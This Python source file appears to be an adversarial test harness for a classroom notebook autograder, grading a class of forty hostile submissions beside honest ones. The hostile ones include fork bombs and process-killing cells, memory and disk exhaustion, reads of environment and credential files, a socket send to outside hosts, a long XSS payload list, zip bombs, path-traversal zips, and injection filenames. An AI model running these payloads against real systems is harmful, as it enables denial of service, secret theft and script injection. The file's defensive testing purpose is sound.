"""A class with forty troublemakers beside twenty honest students: does anybody stop it, or get what is not theirs?

Each troublemaker hands in the notebook of an assignment as it was handed out, or a file that is none, and
something with it that stops graders, tells secrets, runs in a teacher's browser, or makes points.
Who attacks may be graded or refused; who is honest must get exactly the points of the answer.
"""

import contextlib
import html
import io
import json
import os
import random
import re
import secrets
import shutil
import socket
import tempfile
import zipfile
from pathlib import Path

import nbformat

from classroom.answers import answered, points_of_tests, read_answers
from classroom.course import ROOT, build, chosen_sources, read_assignment, secret_lines

HONEST = 20
WRITES = "import sys, os, signal, time\nfolder = os.path.dirname(sys.argv[sys.argv.index('-f') + 1])\n"
# Each is the first cell of a notebook.
STOPS = {
    "ends its kernel": "import os\nos._exit(1)",
    "kills all that it sees": "import os\nos.kill(-1, 9)",
    "kills its parent": "import os\nos.kill(os.getppid(), 9)",
    "can't be interrupted": "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
    "while True:\n    try:\n        time.sleep(1)\n    except BaseException:\n        pass",
    "sleeps": "import time\ntime.sleep(10**6)",
    "forks": "import os, time\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        time.sleep(1)",
    "eats memory": "x = []\nwhile True:\n    x.append(b'x' * 10**8)",
    "eats memory with children": "import os, time\nfor _ in range(4):\n    if os.fork() == 0:\n"
    "        x = b'x' * 900_000_000\n        time.sleep(600)\ntime.sleep(600)",
    "fills its disk": "with open('/tmp/x', 'wb') as file:\n    while True:\n        file.write(bytes(10**6))",
    "fills the kernel's folder": f"{WRITES}os.makedirs(folder + '/a/b')\ntime.sleep(60)",
    "puts a link to a secret there": f"{WRITES}os.unlink(folder + '/kernel.json')\n"
    "os.symlink({secret!r}, folder + '/kernel.json')\ntime.sleep(60)",
    "removes the kernel's sockets": f"{WRITES}for name in os.listdir(folder):\n    os.unlink(folder + '/' + name)",
    "prints without end": "for _ in range(100_000):\n    print('much ' * 50)",
    "prints one long line": "print('x' * 50_000_000)",
    "displays without end": "from IPython.display import HTML, display\n"
    "for _ in range(3_000):\n    display(HTML('<b>' * 1_000))",
}
LOOKS = """\
import os, socket, glob
for path in ["/proc/1/environ", "/proc/1/cmdline", "/proc/self/mountinfo", *glob.glob("/proc/*/environ"), {secret!r},
             {course!r} + "/gradebook.db", {course!r} + "/grades.csv", *glob.glob({course!r} + "/submitted/*/*/*"),
             *glob.glob({assignments!r} + "/**", recursive=True), *glob.glob({folder!r} + "/**", recursive=True)]:
    try:
        print(open(path, errors="replace").read())
    except OSError:
        pass
print(os.environ, os.listdir("/"), os.listdir("/tmp"))
"""
SENDS = """\
import os, socket
for address in (("127.0.0.1", {port}), ("localhost", 22), ("1.1.1.1", 53)):
    try:
        socket.create_connection(address, 2).send(repr(In).encode())
        raise SystemExit("connected")
    except OSError as error:
        print(error)
"""
# Each is the body of the first function that an answer should define.
TELLS = {
    "names an error after a hidden test": "raise type(In[-1], (Exception,), {})(In[-1])",
    "quotes a hidden test as an error": "raise AssertionError(In[-1])",
    "is a hidden test, as a value": """class Spy(float):
        __eq__ = __lt__ = __gt__ = lambda self, other: False
        __repr__ = __str__ = __format__ = lambda self, *_: In[-1]
    return Spy()""",
    "warns of a hidden test": "import warnings\n    warnings.warn(In[-1])\n    raise NotImplementedError(In[-1])",
}
ATTACKS = """\
<script>hacked()</script> <img src=x onerror=hacked()> <svg onload=hacked()></svg> <iframe srcdoc="<script>hacked()</script>">
<style>.score {display: none} body::after {content: "10 / 10"}</style><form action=/x><button>Submit</button></form>
<a href="javascript:hacked()" class=attack>a</a> [b](javascript:hacked()) [c](java&#115;cript:hacked()) [d](javascript&colon;hacked())
[e][ref] <javascript:hacked()> ![f](https://example.org/x.png) ![g](x "onerror=hacked()") [h](data:text/html,<script>hacked()</script>)
$\\href{javascript:hacked()}{i}$ $<img src=x onerror=hacked()>$ `<img src=x onerror=hacked()>` \\<img src=x onerror=hacked()>
\\begin{equation}</script><img src=x onerror=hacked()>\\end{equation} <div title="<img src=x onerror=hacked()>
">k</div> <!-- --!><img src=x onerror=hacked()> --> <math><mtext><table><mglyph><style><img src=x onerror=hacked()>
<input autofocus onfocus=hacked()> <details open ontoggle=hacked()> <a id=score_total href=//example.org>l</a> <base href=//example.org>

| a |
|---|
| <img src=x onerror=hacked()> |

```html
</code></pre><img src=x onerror=hacked()>
```

[ref]: javascript:hacked()
"""  # noqa: E501
DISPLAYS = """\
from IPython.display import HTML, Markdown, SVG, Latex, Javascript, display
text = {attacks!r}
for show in (HTML, Markdown, Latex, Javascript):
    display(show(text))
display({{"image/svg+xml": text, "text/html": text, "image/png": "x' onerror='hacked()", "text/plain": text}}, raw=True)
print(text)
raise type("<img src=x onerror=hacked()>", (Exception,), {{}})(text)
"""
SHOWS = "import sys\nget_ipython().events.register('post_run_cell', lambda result: sys.displayhook({}))"


def besiege(number, *, honest=HONEST, jobs=None):
    """Grade such a class from a Moodle zip, and print a table in Markdown.

    Args:
        number: two-digit number of an assignment.
        honest: how many known answers are among them.
        jobs: how many are graded at a time; None for as many as there are cores and memory for.

    Returns:
        1 if an honest student got other points, a troublemaker any, or something leaked; else 0.
    """
    from classroom.grading import Limits, grade

    (source,) = chosen_sources([number])
    said, faults, canary = [], [], secrets.token_hex(16)

    def report(line):
        said.append(line)
        print(line, flush=True)

    with tempfile.TemporaryDirectory() as folder, socket.create_server(("127.0.0.1", 0)) as server:
        folder = Path(folder)
        course, export = folder / "course", folder / "export.zip"
        build(course, [number])
        os.environ["CLASSROOM_CANARY"] = canary
        (folder / "secret.txt").write_text(canary)
        release = nbformat.read(course / "release" / source.stem / f"{source.stem}.ipynb", as_version=4)
        places = {"secret": str(folder / "secret.txt"), "course": str(course), "folder": str(folder)}
        places |= {"assignments": str(ROOT / "assignments"), "port": server.getsockname()[1]}
        troubles, expected = all_troubles(release, places), answers(source, canary, honest)
        numbers = write_export(export, troubles, expected)
        records = {r["id"]: r for r in grade(course, export, limits=Limits(memory_gb=3), jobs=jobs, report=report)}
        print("\n| kind | what it does | record | points | what is said |\n|---|---|---|---|---|")
        right = 0
        for name in [*troubles, *expected]:
            record = records.get(numbers[name], {"status": "missing", "points": 0, "note": ""})
            if name in expected:
                fine = (record["status"], record["points"]) == ("graded", expected[name][1])
                right += fine
            else:
                fine = record["status"] in ("graded", "refused") and not record["points"]
                said_of = record["note"].replace("|", "")[:80]
                print(f"| {troubles[name][0]} | {name} | {record['status']} | {record['points']:g} | {said_of} |")
            if not fine:
                faults.append(f"{name}: {record['status']}, {record['points']:g} points. {record['note']}")
        print(f"\n{len(troubles)} troublemakers. {right} of {len(expected)} honest students have their points.")
        faults += leaks(course, source, canary, {records[numbers[name]]["student"] for name in expected}, said)
        server.settimeout(0.1)
        with contextlib.suppress(TimeoutError):
            server.accept()
            faults.append("A submission reached this machine's network.")
        pages = {page.parts[-3]: page.read_text(encoding="utf-8") for page in course.glob("feedback/*/*/*.html")}
        faults += run_in_browser(pages)
    print("\n".join(faults) or "Nobody stopped the class, nothing leaked, nothing ran.")
    return int(bool(faults))


def all_troubles(release, places):
    """Dict from what a troublemaker does to its kind, a file's name, and the file."""

    def with_code(code):
        return changed(release, lambda cells: cells.insert(1, nbformat.v4.new_code_cell(code)))

    def with_body(code):
        def answer(cells):
            cell = next(cell for cell in cells if "raise NotImplementedError()" in cell.source)
            cell.source = cell.source.replace("raise NotImplementedError()", code, 1)

        return changed(release, answer)

    def with_texts(text):
        def write(cells):
            for cell in cells:
                cell.source = text if cell.cell_type == "markdown" else cell.source
            cells.append(nbformat.v4.new_markdown_cell(text))

        return changed(release, write)

    def without_tests(cells):
        cells[:] = [cell for cell in cells if not cell.metadata.get("nbgrader", {}).get("grade")]

    def easy_tests(cells):
        for cell in cells:
            if cell.cell_type == "code" and cell.metadata.get("nbgrader", {}).get("grade"):
                cell.source = "pass"

    def dear_tests(cells):
        for cell in cells:
            cell.metadata.get("nbgrader", {}).update(points=100, grade=True, solution=True, locked=False)

    texts = {
        "scripts, styles and forms in every text": ATTACKS,
        "formulas that never end": "\\begin{a}" * 30_000,
        "brackets and tags within each other": "[" * 100_000 + "<b>" * 30_000,
    }
    notebook = nbformat.writes(release).encode()
    other = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1")])
    language = "R\x1b[2J" + random.Random(0).randbytes(500_000).hex()
    in_r = changed(release, metadata={"kernelspec": {"language": language}})
    files = {
        "empty": ("a.ipynb", b""),
        "a letter": ("a.ipynb", b"Dear teacher"),
        "a document": ("homework.docx", b"PK"),
        "32,000 cells": ("a.ipynb", json.dumps({"nbformat": 4, "metadata": {}, "cells": [{}] * 32_000}).encode()),
        "100,000 brackets": ("a.ipynb", b"[" * 100_000),
        "25 MB": ("a.ipynb", random.Random(0).randbytes(25_000_000)),
        "another notebook": ("a.ipynb", nbformat.writes(other).encode()),
        "another language, with signs for the terminal": ("a.ipynb", in_r),
        "a zip bomb": ("a.zip", zipped({"a.ipynb": b"0" * 49_000_000})),
        "a zip that leads out of itself": ("a.zip", zipped({"../../../a.ipynb": notebook, "/tmp/a.ipynb": notebook})),
        "a zip with a link": ("a.zip", zipped({LINK: places["secret"].encode()})),
        "half a zip": ("a.zip", zipped({"a.ipynb": notebook})[:600]),
        "a name that steers": ("\x1b[2J\u202eb" + "x" * 200 + ".ipynb", notebook),
    }
    troubles = {
        name: ("stop", "a.ipynb", with_code(code.format(**places) if "{secret" in code else code))
        for name, code in STOPS.items()
    }
    troubles["looks everywhere"] = ("spy", "a.ipynb", with_code(LOOKS.format(**places)))
    troubles["sends what it knows"] = ("spy", "a.ipynb", with_code(SENDS.format(**places)))
    troubles |= {name: ("spy", "a.ipynb", with_body(code)) for name, code in TELLS.items()}
    troubles |= {name: ("page", "a.ipynb", with_texts(text)) for name, text in texts.items()}
    troubles["displays scripts"] = ("page", "a.ipynb", with_code(DISPLAYS.format(attacks=ATTACKS)))
    troubles["displays numbers"] = ("points", "a.ipynb", with_code(SHOWS.format("1e9")))
    for name, change in {
        "tests deleted": without_tests,
        "tests made easy": easy_tests,
        "tests made dear": dear_tests,
    }.items():
        troubles[name] = ("points", "a.ipynb", changed(release, change))
    return troubles | {name: ("file", *file) for name, file in files.items()}


def changed(release, change=None, metadata=None):
    """The bytes of a release after a change of its list of cells, or of its metadata."""
    notebook = nbformat.from_dict(release)
    if change:
        change(notebook.cells)
    notebook.metadata.update(metadata or {})
    return nbformat.writes(notebook).encode()


def answers(source, canary, most):
    """Dict from the name of a known answer to its notebook, in which a secret stands, and its points."""
    full, found = points_of_tests(source), {}
    for answer in [None, *read_answers(source.name[:2])][:most]:
        notebook = answered(source, answer)
        notebook.cells.append(nbformat.v4.new_markdown_cell(f"My notes: {canary}"))
        loses = answer["loses"] if answer else {}
        name = answer["name"] if answer else "the solution"
        found[name] = (nbformat.writes(notebook).encode(), sum(full.values()) - sum(loses.values()))
    return found


LINK = zipfile.ZipInfo("a.ipynb")
LINK.external_attr = 0o120777 << 16
ODD_NAMES = [
    "=1+1",
    "<img src=x onerror=hacked()>",
    "\x1b[2J\u202eeve",
    "रवि",
    "रव",
    "'; drop table grade; --",
    "x" * 220,
]


def zipped(files):
    """The bytes of a zip of some files."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return data.getvalue()


def write_export(path, troubles, expected):
    """Write the zip that Moodle would, in no order; a dict from what each does to the number that Moodle gave them."""
    files, numbers = {}, {}
    both = {name: ("a.ipynb", data) for name, (data, _) in expected.items()} | {k: v[1:] for k, v in troubles.items()}
    names = random.Random(0).sample(sorted(both), len(both))
    odd = dict(zip([name for name in names if name in troubles], ODD_NAMES, strict=False))
    for number, name in enumerate(names, 1001):
        file, data = both[name]
        files[f"{odd.get(name, f'Student {number}')}_{number}_assignsubmission_file_/{file}"] = data
        numbers[name] = str(number)
    path.write_bytes(zipped(files))
    return numbers


def leaks(course, source, canary, honest, said):
    """What stands where it must not: lines that say so. `honest` are the students who may show the secret `canary`."""
    hidden = secret_lines(read_assignment(source.read_text(encoding="utf-8")), only=("HIDDEN TESTS",))
    faults, texts = [], {Path("what was printed"): "\n".join(said)}
    for path in sorted(course.rglob("*")):
        place = path.relative_to(course)
        if path.suffix in (".html", ".ipynb", ".json", ".csv") and place.parts[0] not in ("source", "release"):
            text = path.read_text(encoding="utf-8")
            texts[place] = html.unescape(re.sub(r"<[^>]+>", "", text)) if path.suffix == ".html" else text
    for place, text in texts.items():
        owner = set(place.with_suffix("").parts) & honest
        if canary in text and not owner:
            faults.append(f"The secret stands in {place}.")
        own = "".join(texts[other] for other in texts if other.parts[0] == "submitted" and owner & set(other.parts))
        if place.parts[0] != "autograded" and any(line in text and line not in own for line in hidden):
            faults.append(f"A hidden test stands in {place}.")
        if place.suffix in (".csv", "") and re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202e]", text):
            faults.append(f"Signs that steer a terminal stand in {place}.")
    return faults


def run_in_browser(pages):
    """Open pages in Chromium, if it is here: lines that say what ran in them, and what they asked for."""
    chromium = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        chromium = None
    if chromium is None:
        print("There is no browser here (playwright and Chromium): pages were not opened.")
        return []
    faults = []

    def answer(route):
        if route.request.url == address:
            return route.fulfill(body=pages[name], content_type="text/html; charset=utf-8")
        faults.append(f"{name} asked for {route.request.url}.")
        return route.abort()

    with sync_playwright() as playwright:
        browser, address = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"]), "http://a.test/"
        context = browser.new_context()
        context.expose_function("hacked", lambda: faults.append(f"A script ran in {name}."))
        context.route("**/*", answer)
        for name in pages:
            tab = context.new_page()
            tab.goto(address)
            tab.wait_for_timeout(50)
            if tab.query_selector("form, iframe, svg, img, script, body style"):
                faults.append(f"{name} has a form, a picture, a script or a style in it.")
            tab.close()
        browser.close()
    print(f"{len(pages)} pages opened in Chromium.")
    return faults
